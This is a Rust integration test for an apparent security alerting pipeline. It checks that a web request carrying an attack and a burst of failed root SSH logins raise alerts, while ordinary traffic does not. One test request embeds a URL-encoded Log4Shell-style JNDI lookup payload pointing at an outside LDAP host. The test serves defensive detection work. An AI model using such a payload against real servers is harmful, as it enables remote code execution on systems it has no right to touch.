//! What any patrol finds becomes an alert: requests and logins, from a publisher's body to the
//! subject that people subscribe to.
#![allow(
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test reports by panicking"
)]

use magsentinel_bus_schema::{Alert, Status};
use magsentinel_tests::{Mesh, next};
use serde_json::json;
use std::collections::BTreeSet;

#[tokio::test(flavor = "multi_thread")]
async fn an_attack_by_request_and_one_by_login_are_alerted_and_ordinary_ones_are_not() {
    let mesh = Mesh::with(&["sensor", "api-watch", "auth-sentry", "analyzer"]).await;
    let client = mesh.client().await;
    let mut alerts = client.subscribe("mag.default.alert.>").await.unwrap();
    client.flush().await.unwrap();

    let request = |from: &str, path: &str, query: &str| {
        json!({
            "client": from, "method": "GET", "path": path, "query": query, "status": 200,
            "headers": {"host": "shop.example.com", "user-agent": "Mozilla/5.0 Firefox/128.0"},
        })
    };
    let login = |n: u32, event: &str, user: &str, from: &str| {
        json!({
            "ts": 1_764_000_000 + n * 2, "host": "web1", "service": "sshd", "event": event,
            "user": user, "src_ip": from, "session": format!("sshd[{n}]"),
        })
    };
    let ordinary = request("192.0.2.10", "/products/17", "sort=price");
    let attack = request("203.0.113.7", "/search", "q=%24%7Bjndi:ldap://198.51.100.1/a%7D");
    mesh.ingest("api", format!("{ordinary}\n{attack}")).await;
    let mut logins: Vec<String> =
        (0..30).map(|n| login(n, "failed_password", "root", "203.0.113.8").to_string()).collect();
    logins.push(login(40, "accepted_password", "anne", "192.0.2.11").to_string());
    mesh.ingest("auth", logins.join("\n")).await;

    let mut seen = BTreeSet::new();
    while seen.len() < 2 {
        let alert: Alert = next(&mut alerts).await;
        assert_ne!(alert.status, Status::Closed, "{alert:?}");
        assert!(!["192.0.2.10", "192.0.2.11", "anne"].contains(&alert.key.as_str()), "{alert:?}");
        let attack = alert.attack_type.to_string();
        seen.insert((attack.trim_end_matches("_repeated").to_owned(), alert.key));
    }
    let wanted = [("login_attack", "203.0.113.8"), ("web_attack", "203.0.113.7")];
    assert_eq!(seen, wanted.map(|(a, k)| (a.to_owned(), k.to_owned())).into());
}
